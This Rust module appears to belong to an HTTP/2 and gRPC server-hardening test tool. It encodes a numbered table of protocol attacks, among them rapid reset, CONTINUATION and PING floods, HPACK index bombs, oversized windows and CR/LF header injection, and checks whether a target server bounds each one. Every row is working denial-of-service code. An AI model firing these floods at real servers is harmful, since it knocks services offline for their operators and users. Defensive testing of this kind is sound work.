//! The attacks, each with what a server that bounds it does.
//!
//! Numbers are those of the project's table of attacks; the engine's own tests have the rows that need no socket.

use std::net::SocketAddr;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, block, frame,
};
use crate::peer::{Peer, Told};

/// One attack.
#[derive(Debug)]
#[non_exhaustive]
pub struct Row {
    /// Its number and what it does.
    pub name: &'static str,
    /// The best known case of it.
    pub known_as: &'static str,
    /// Does it; an error if the server takes no connection any more.
    pub run: fn(&Target) -> std::io::Result<Seen>,
}

/// Whom to attack.
#[derive(Clone, Debug)]
#[expect(clippy::exhaustive_structs, reason = "made by whoever attacks")]
pub struct Target {
    /// Its address.
    pub server: SocketAddr,
    /// A path of the server, for its requests.
    pub path: String,
}

/// What came of it.
#[derive(Clone, Debug)]
#[expect(clippy::exhaustive_structs, reason = "made by whoever could not even connect")]
pub struct Seen {
    /// Whether the server kept to a bound, as far as a client can see.
    pub bounded: bool,
    /// In words.
    pub what: String,
    /// Octets the server's socket took.
    pub sent_bytes: usize,
}

impl Target {
    fn head(&self) -> Vec<u8> {
        self.head_with(&[])
    }

    fn head_with(&self, more: &[(&str, &str)]) -> Vec<u8> {
        let mut fields = vec![
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.path.as_str()),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        ];
        fields.extend_from_slice(more);
        block(&fields)
    }

    /// A request that goes on.
    pub fn open(&self, stream: u32) -> Vec<u8> {
        frame(HEADERS, END_HEADERS, stream, &self.head())
    }
}

fn id(call: usize) -> u32 {
    u32::try_from(2 * call + 1).unwrap_or(u32::MAX)
}

/// What ended a flood: the server, or only our patience.
fn flooded(peer: &mut Peer, of: usize) -> Seen {
    // The end may be on its way while the last octets are, or have come unread.
    let over = peer.stalled || (peer.read().is_ok() && peer.wait(Told::is_over));
    let told = peer.told();
    let what = match (told.goaway.filter(|&code| code != 0), told.closed, peer.stalled) {
        (Some(code), _, _) => format!("GOAWAY {}", name(code)),
        (None, true, _) => "connection closed".to_owned(),
        (None, _, true) => "stops reading".to_owned(),
        _ => format!("takes all {of}"),
    };
    Seen { bounded: over, what, sent_bytes: peer.sent_bytes }
}

/// Whether one wrong thing is answered by an error: of the connection, or of the stream.
fn refused(peer: &Peer) -> Seen {
    let answered = peer.wait(|told| told.is_over() || told.resets + told.answers > 0);
    let told = peer.told();
    let what = if let Some(code) = told.goaway.filter(|&code| code != 0) {
        format!("GOAWAY {}", name(code))
    } else if told.closed {
        "connection closed".to_owned()
    } else if told.resets > 0 {
        format!("RST_STREAM {}", name(told.reset_code))
    } else if told.answers > 0 {
        "an answer".to_owned()
    } else {
        "nothing".to_owned()
    };
    Seen { bounded: answered, what, sent_bytes: peer.sent_bytes }
}

/// The same where an ordinary answer would be the fault: only an error of HTTP/2 will do.
fn an_error(peer: &Peer) -> Seen {
    peer.wait(|told| told.is_over() || told.resets > 0);
    let told = peer.told();
    let bounded = told.is_over() || told.resets > 0;
    Seen { bounded, ..refused(peer) }
}

fn name(code: u32) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    NAMES.get(code as usize).map_or_else(|| format!("code {code}"), |&name| name.to_owned())
}

/// Frames of a flood. A server that takes them all has no bound that matters.
const FLOOD: usize = 40_000;
/// Frames of a flood whose answers nobody reads: so many that all socket buffers on the way are full of answers
/// (some 9 MiB) long before it ends, and only a server without a bound takes the rest.
const UNREAD_FLOOD: usize = 40 * FLOOD;

fn flood(target: &Target, piece: impl Fn(usize) -> Vec<u8>) -> std::io::Result<Seen> {
    let mut peer = Peer::greeted(target.server, &[])?;
    peer.flood(FLOOD, piece);
    Ok(flooded(&mut peer, FLOOD))
}

/// A flood on a stream that is open.
fn flood_on_stream(target: &Target, piece: impl Fn(usize) -> Vec<u8>) -> std::io::Result<Seen> {
    let mut peer = Peer::greeted(target.server, &[])?;
    peer.send(&target.open(1));
    peer.flood(FLOOD, piece);
    // The stream may be what ends.
    let seen = flooded(&mut peer, FLOOD);
    let told = peer.told();
    let ended = told.resets + told.answers > 0 && !told.is_over();
    Ok(if ended && !seen.bounded {
        Seen { what: format!("{}, stream ended", seen.what), ..seen }
    } else {
        seen
    })
}

/// A request whose header block is `octets`.
fn request(target: &Target, octets: &[u8]) -> std::io::Result<Peer> {
    let mut peer = Peer::greeted(target.server, &[])?;
    peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, octets));
    Ok(peer)
}

/// One frame on a connection that is otherwise in order.
fn one(target: &Target, octets: &[u8]) -> std::io::Result<Seen> {
    let mut peer = Peer::greeted(target.server, &[])?;
    peer.send(octets);
    Ok(an_error(&peer))
}

/// All attacks, by number.
pub const ROWS: &[Row] = &[
    Row {
        name: "01 rapid reset: open and cancel at once",
        known_as: "CVE-2023-44487",
        run: |target| {
            flood(target, |call| {
                [target.open(id(call)), frame(RST_STREAM, 0, id(call), &8_u32.to_be_bytes())].concat()
            })
        },
    },
    Row {
        name: "02 make the server reset: WINDOW_UPDATE 0 on each stream",
        known_as: "CVE-2025-8671",
        run: |target| {
            flood(target, |call| [target.open(id(call)), frame(WINDOW_UPDATE, 0, id(call), &[0; 4])].concat())
        },
    },
    Row {
        name: "04 resets that are never read",
        known_as: "CVE-2019-9514",
        run: |target| {
            let mut peer = Peer::deaf(target.server)?;
            peer.flood(FLOOD, |call| {
                [target.open(id(call)), frame(WINDOW_UPDATE, 0, id(call), &[0; 4])].concat()
            });
            Ok(flooded(&mut peer, FLOOD))
        },
    },
    Row {
        name: "05 streams beyond the limit, none ended",
        known_as: "CVE-2023-26964",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            peer.flood(5_000, |call| target.open(id(call)));
            peer.wait(|told| told.is_over() || told.resets + told.answers > 4_000);
            let told = peer.told();
            let over = told.resets + told.answers;
            let what = if told.is_over() {
                flooded(&mut peer, 5_000).what
            } else {
                format!("refuses {over} of 5000")
            };
            Ok(Seen { bounded: told.is_over() || over > 4_000, what, sent_bytes: peer.sent_bytes })
        },
    },
    Row {
        name: "07 PINGs whose answers are never read",
        known_as: "CVE-2019-9512",
        run: |target| {
            let mut peer = Peer::deaf(target.server)?;
            peer.flood(UNREAD_FLOOD, |_| frame(PING, 0, 0, &[0; 8]));
            Ok(flooded(&mut peer, UNREAD_FLOOD))
        },
    },
    Row {
        name: "08 SETTINGS whose answers are never read",
        known_as: "CVE-2019-9515",
        run: |target| {
            let mut peer = Peer::deaf(target.server)?;
            peer.flood(UNREAD_FLOOD, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
            Ok(flooded(&mut peer, UNREAD_FLOOD))
        },
    },
    Row {
        name: "09 empty DATA without an end",
        known_as: "CVE-2019-9518",
        run: |target| flood_on_stream(target, |_| frame(DATA, 0, 1, &[])),
    },
    Row {
        name: "10 DATA of one octet",
        known_as: "RUSTSEC-2026-0258",
        run: |target| flood_on_stream(target, |_| frame(DATA, 0, 1, &[0])),
    },
    Row {
        name: "11 PRIORITY",
        known_as: "CVE-2019-9513",
        run: |target| flood(target, |call| frame(PRIORITY, 0, id(call % 1000), &[0, 0, 0, 0, 16])),
    },
    Row {
        name: "12 frames of unknown types",
        known_as: "RFC 9113 §10.5",
        run: |target| flood(target, |_| frame(0xbe, 0, 0, &[0; 8])),
    },
    Row {
        name: "13 WINDOW_UPDATE by one octet",
        known_as: "CVE-2019-9511",
        run: |target| flood(target, |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
    },
    Row {
        name: "14 GOAWAY",
        known_as: "h2 0.4.20",
        run: |target| flood(target, |_| frame(GOAWAY, 0, 0, &[0; 8])),
    },
    Row {
        name: "15 CONTINUATION without end",
        known_as: "CVE-2024-27316",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            peer.send(&frame(HEADERS, 0, 1, &target.head()));
            let more = block(&[("x", "0123456789")]);
            peer.flood(FLOOD, |_| frame(CONTINUATION, 0, 1, &more));
            Ok(flooded(&mut peer, FLOOD))
        },
    },
    Row {
        name: "15 CONTINUATION of no octets without end",
        known_as: "CVE-2026-33871",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            peer.send(&frame(HEADERS, 0, 1, &target.head()));
            peer.flood(FLOOD, |_| frame(CONTINUATION, 0, 1, &[]));
            Ok(flooded(&mut peer, FLOOD))
        },
    },
    Row {
        name: "16 one long entry, named 4,000 times by an index",
        known_as: "CVE-2016-6581",
        run: |target| {
            let mut octets = target.head();
            // Inserted with incremental indexing (RFC 7541 §6.2.1): its index is 62.
            octets.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0x80 | 0x21, 0x1e]);
            octets.extend(std::iter::repeat_n(b'v', 0x7f + 0x21 + (0x1e << 7)));
            octets.extend(std::iter::repeat_n(0xbe, 4_000));
            Ok(refused(&request(target, &octets)?))
        },
    },
    Row {
        name: "17 thousands of fields by an index, window closed, 100 streams",
        known_as: "CVE-2026-49975",
        run: |target| {
            // SETTINGS_INITIAL_WINDOW_SIZE 0: no answer can leave.
            let mut peer = Peer::greeted(target.server, &[0, 4, 0, 0, 0, 0])?;
            let mut octets = target.head();
            octets.extend(std::iter::repeat_n(0x90, 12_000));
            for call in 0..100 {
                peer.send(&frame(HEADERS, END_HEADERS | END_STREAM, id(call), &octets));
            }
            let told_all = peer.wait(|told| told.is_over() || told.resets + told.answers >= 100);
            Ok(Seen { bounded: told_all, ..refused(&peer) })
        },
    },
    Row {
        name: "18 fields without a name",
        known_as: "CVE-2019-9516",
        run: |target| {
            let mut octets = target.head();
            octets.extend([0, 0, 0].repeat(4_000));
            Ok(refused(&request(target, &octets)?))
        },
    },
    Row {
        name: "19 a string that claims 4 GiB",
        known_as: "CVE-2023-33953",
        run: |target| one(target, &frame(HEADERS, END_HEADERS, 1, &[0, 0x7f, 0x80, 0xff, 0xff, 0xff, 0x0f])),
    },
    Row {
        name: "22 a table size over the limit",
        known_as: "RFC 7541 §4.2",
        run: |target| {
            let mut octets = vec![0x3f, 0xe1, 0xff, 0xff, 0x07];
            octets.extend(target.head());
            one(target, &frame(HEADERS, END_HEADERS, 1, &octets))
        },
    },
    Row {
        name: "23 Huffman with the end symbol in it",
        known_as: "RFC 7541 §5.2",
        run: |target| one(target, &frame(HEADERS, END_HEADERS, 1, &[0, 0x84, 0xff, 0xff, 0xff, 0xff, 0])),
    },
    Row {
        name: "27 answers that are never read",
        known_as: "CVE-2016-1546",
        run: |target| {
            let mut peer = Peer::deaf(target.server)?;
            peer.flood(20 * FLOOD, |call| {
                let call = id(call);
                [target.open(call), frame(DATA, END_STREAM, call, &[0, 0, 0, 0, 0])].concat()
            });
            Ok(flooded(&mut peer, 20 * FLOOD))
        },
    },
    Row {
        name: "28 a window over 2^31 - 1",
        known_as: "RFC 9113 §6.9.1",
        run: |target| {
            let update = frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes());
            one(target, &[update.clone(), update].concat())
        },
    },
    Row {
        name: "29 DATA beyond the window",
        known_as: "RFC 9113 §6.9.1",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            peer.send(&target.open(1));
            let prefix = frame(DATA, 0, 1, &[0, 0x7f, 0xff, 0xff, 0xff]);
            peer.send(&prefix);
            peer.flood(4_000, |_| frame(DATA, 0, 1, &[0; 16_384]));
            let seen = flooded(&mut peer, 4_000);
            let told = peer.told();
            // What comes for a stream that is over costs nothing but the reading.
            if told.is_over() || told.resets + told.answers == 0 { Ok(seen) } else { Ok(refused(&peer)) }
        },
    },
    Row {
        name: "31 a maximal frame size of 0",
        known_as: "CVE-2026-33814",
        run: |target| one(target, &frame(SETTINGS, 0, 0, &[0, 5, 0, 0, 0, 0])),
    },
    Row {
        name: "32 100 messages that claim 4 GiB each",
        known_as: "gRPC framing",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            for call in 0..100 {
                peer.send(&target.open(id(call)));
                peer.send(&frame(DATA, 0, id(call), &[0, 0xff, 0xff, 0xff, 0xff]));
            }
            peer.wait(|told| told.is_over() || told.resets + told.answers >= 100);
            let told = peer.told();
            let refused = told.resets + told.answers;
            let what = format!("refuses {refused} of 100");
            Ok(Seen { bounded: told.is_over() || refused >= 100, what, sent_bytes: peer.sent_bytes })
        },
    },
    Row {
        name: "36 a path without its slash",
        known_as: "CVE-2026-33186",
        run: |target| {
            let path = target.path.trim_start_matches('/');
            let fields = [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                ("content-type", "application/grpc"),
            ];
            Ok(refused(&request(target, &block(&fields))?))
        },
    },
    Row {
        name: "37 a pseudo-header twice",
        known_as: "RFC 9113 §8.3",
        run: |target| {
            let octets = [block(&[(":method", "GET")]), target.head()].concat();
            Ok(an_error(&request(target, &octets)?))
        },
    },
    Row {
        name: "37 CR and LF in a value",
        known_as: "RFC 9113 §8.2.1",
        run: |target| Ok(an_error(&request(target, &target.head_with(&[("x", "a\r\nb: c")]))?)),
    },
    Row {
        name: "37 a connection-specific field",
        known_as: "RFC 9113 §8.2.2",
        run: |target| Ok(an_error(&request(target, &target.head_with(&[("transfer-encoding", "chunked")]))?)),
    },
    Row {
        name: "41 frames behind a fatal error",
        known_as: "CVE-2026-27135",
        run: |target| {
            let mut peer = Peer::greeted(target.server, &[])?;
            // PUSH_PROMISE from a client is the end; then a flood of requests in the same breath.
            let mut octets = frame(PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2]);
            octets.extend((0..200).flat_map(|call| target.open(id(call))));
            peer.send(&octets);
            Ok(an_error(&peer))
        },
    },
];
